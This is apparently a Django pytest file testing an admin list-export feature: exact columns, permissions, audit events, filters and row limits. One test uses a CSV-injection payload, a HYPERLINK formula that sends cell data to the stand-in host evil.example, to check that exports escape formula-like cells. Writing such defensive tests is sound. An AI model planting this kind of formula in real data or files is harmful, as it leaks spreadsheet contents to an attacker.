"""Lists as files: exact columns, no formulae, for those who may, and written down."""

import csv
from importlib import import_module
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.apps import apps
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from accounts.groups import SITE_ADMINISTRATION, SUPPORT
from accounts.models import AuditEvent, Organization, Residency, User
from accounts.tests.factories.buildings import ResidencyFactory
from accounts.tests.factories.organizations import OrganizationFactory, staff_in
from accounts.tests.factories.people import UserFactory
from config.shared import admin_exports
from config.shared.admin_exports import harmless

pytestmark = [pytest.mark.django_db, pytest.mark.capability("A24")]

CSV, XLSX = "0", "1"
LURE = '=HYPERLINK("https://evil.example/?q="&A1,"Look")'
ACTION = "list_exported"


def administrator() -> User:
    clerk = staff_in(SITE_ADMINISTRATION)
    import_module("accounts.migrations.0012_exports").allow(apps, None)
    return clerk


@pytest.fixture
def clerk(db: None) -> User:
    return administrator()


@pytest.fixture
def office(clerk: User) -> Client:
    client = Client()
    client.force_login(clerk)
    return client


def address(model: Any, query: str = "") -> str:
    return reverse(f"admin:accounts_{model._meta.model_name}_export") + query


def taken(office: Client, model: Any, file_format: str = CSV, query: str = "") -> Any:
    response = office.post(address(model, query), {"format": file_format, "resource": "0"})
    assert response.status_code == 200, response.content
    assert response["Content-Disposition"].startswith("attachment; filename=")
    return response


def rows_of(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(response.content.decode("utf-8-sig"))))


def test_a_name_that_is_a_formula_is_text_in_every_format(office: Client) -> None:
    UserFactory(full_name=LURE, phone_number="+971501234567")

    (row,) = rows_of(taken(office, User, query="?q=%3DHYPERLINK"))
    book = load_workbook(BytesIO(taken(office, User, XLSX, "?q=%3DHYPERLINK").content))
    heading, cells = book.active.iter_rows()
    values = dict(zip([cell.value for cell in heading], cells, strict=True))

    assert row["full_name"] == f"'{LURE}"
    assert row["phone_number"] == "'+971501234567"
    assert (values["full_name"].value, values["full_name"].data_type) == (f"'{LURE}", "s")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_whatever_begins_like_a_formula_is_made_harmless(start: str) -> None:
    assert harmless(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Al Noor", "", "a=b", -5, None, True])
def test_other_cells_stay_what_they_are(value: Any) -> None:
    assert harmless(value) is value


@pytest.mark.parametrize(
    ("model", "columns"),
    [
        (
            User,
            """id full_name username phone_number phone_verified email email_verified status
            primary_role city created_at last_login_at""",
        ),
        (
            Organization,
            "id name kind legal_name registration_no city status verified_at created_at",
        ),
        (
            Residency,
            """id user__full_name building__name building__city unit_label relation status method
            since until created_at""",
        ),
    ],
)
def test_a_file_has_exactly_the_columns_that_are_named(
    office: Client, model: Any, columns: str
) -> None:
    ResidencyFactory()

    rows = rows_of(taken(office, model))

    assert list(rows[0]) == columns.split()
    assert len(rows) == model.objects.count()


def test_a_file_has_the_rows_of_the_list_as_it_is_filtered(office: Client, clerk: User) -> None:
    OrganizationFactory(name="Palm Court", city="Dubai")
    OrganizationFactory(name="Marina Court", city="Sharjah")

    rows = rows_of(taken(office, Organization, query="?q=Palm"))

    assert [row["name"] for row in rows] == ["Palm Court"]
    event = AuditEvent.objects.get(action=f"accounts.organization.{ACTION}")
    assert (event.actor, event.after) == (clerk, {"rows": 1, "format": "csv", "filters": ["q"]})


def test_whoever_may_not_export_gets_neither_form_nor_file() -> None:
    office = Client()
    office.force_login(staff_in(SUPPORT))

    for model in (User, Organization, Residency):
        assert office.get(address(model)).status_code == 403
        refused = office.post(address(model), {"format": CSV, "resource": "0"})
        assert refused.status_code == 403

    page = office.get(reverse("admin:accounts_user_changelist")).content.decode()
    assert address(User) not in page
    assert not AuditEvent.objects.filter(action__endswith=ACTION).exists()


def test_a_file_is_made_for_a_form_only_and_never_for_a_link(office: Client) -> None:
    asked = office.get(address(User, "?q=Sam"))

    assert asked["Content-Type"].startswith("text/html")
    assert "attachment" not in asked.get("Content-Disposition", "")
    assert address(User) in office.get(reverse("admin:accounts_user_changelist")).content.decode()
    assert not AuditEvent.objects.filter(action__endswith=ACTION).exists()


@pytest.mark.parametrize(
    ("query", "status"), [("?format=0", 302), ("?created_at__gte=x", 302), ("?password=x", 400)]
)
def test_a_filter_that_is_none_makes_no_file(office: Client, query: str, status: int) -> None:
    response = office.post(address(User, query), {"format": CSV, "resource": "0"})

    assert (response.status_code, "Content-Disposition" in response) == (status, False)
    assert not AuditEvent.objects.filter(action__endswith=ACTION).exists()


def test_a_list_that_is_too_long_is_to_be_narrowed(
    office: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(admin_exports, "MOST_ROWS", 1)
    UserFactory()

    response = office.post(address(User), {"format": CSV, "resource": "0"})

    assert "Content-Disposition" not in response
    assert "narrow the list" in response.content.decode()
    assert not AuditEvent.objects.filter(action__endswith=ACTION).exists()


def test_a_file_costs_the_same_queries_however_long_it_is(
    office: Client, assert_constant_queries: Any
) -> None:
    assert_constant_queries(lambda: taken(office, Residency), ResidencyFactory)
